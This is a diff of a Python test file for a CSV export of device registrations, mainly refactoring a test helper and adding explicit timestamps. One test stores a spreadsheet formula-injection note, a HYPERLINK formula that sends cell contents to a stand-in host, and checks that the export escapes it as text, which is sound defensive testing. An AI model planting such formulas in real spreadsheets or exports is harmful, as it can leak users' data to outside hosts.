@@ -13,37 +13,16 @@ from sqlalchemy import insert, update
 
 from infrastructure.database.engine import Database
 from provisioning.munki import Destination
-from provisioning.registrations import register as registrations
-from provisioning.registrations.listings.export import (
-    BOM,
-    HEADER,
-    PAGE,
-    csv_of,
-    harmless,
-)
+from provisioning.registrations.listings.export import BOM, HEADER, PAGE, csv_of, harmless
 from provisioning.registrations.models import Registration
-from provisioning.values.serials import Serial, parse_all
+from provisioning.values.serials import Serial
 from tests.support import acting
-from tests.support.acting import did
+from tests.support.acting import did, register
 from tests.support.fixtures.doors import NOON
 from tests.support.soaking import soak_only
 from tests.support.tables import for_each
 
 LONDON, PARIS = Destination("london", "design"), Destination("paris", "basic")
-
-
-def register(
-    database: Database, *serials: str, to: Destination = LONDON, note: str = "", days: int = 0
-) -> None:
-    with database.begin() as session:
-        registrations.register(
-            session,
-            parse_all(serials),
-            to,
-            operation=did(session, "registered", by="U0ALICE", at=NOON + timedelta(days=days)),
-            channel="C0IMAGING",
-            note=note,
-        )
 
 
 def read_back(database: Database, **which: object) -> list[dict[str, str]]:
@@ -53,14 +32,14 @@ def read_back(database: Database, **which: object) -> list[dict[str, str]]:
 
 
 def test_every_registration_is_a_row_with_all_that_is_known(database: Database) -> None:
-    register(database, "C02AAA", note='3rd floor, "lab"\nby the window')
+    register(database, "C02AAA", note='3rd floor, "lab"\nby the window', at=NOON)
     with database.begin() as session:
         acting.cancel(
             session,
             Serial.parse("C02AAA"),
             act=did(session, "cancelled", by="U0BOB", at=NOON + timedelta(hours=1)),
         )
-    register(database, "c02aaa", to=PARIS, days=1)
+    register(database, "c02aaa", to=PARIS, at=NOON + timedelta(days=1))
 
     assert read_back(database) == [
         {
@@ -100,8 +79,8 @@ def test_a_state_of_tomorrow_and_a_mac_of_nobody_are_exported(database: Database
 
 @pytest.mark.postgresql
 def test_one_site_can_be_asked_for(database: Database) -> None:
-    register(database, "C02AAA")
-    register(database, "C02BBB", to=PARIS)
+    register(database, "C02AAA", at=NOON)
+    register(database, "C02BBB", to=PARIS, at=NOON)
 
     assert [row["serial"] for row in read_back(database, site="paris")] == ["C02BBB"]
     assert read_back(database, site="rome") == []
@@ -112,7 +91,7 @@ def test_lines_end_as_the_standard_says(database: Database) -> None:
 
 
 def test_a_note_that_is_a_formula_is_exported_as_text(database: Database) -> None:
-    register(database, "C02AAA", note='=HYPERLINK("https://example.com?"&A1,"Click")')
+    register(database, "C02AAA", note='=HYPERLINK("https://example.com?"&A1,"Click")', at=NOON)
 
     assert read_back(database)[0]["note"].startswith("'=HYPERLINK(")
 
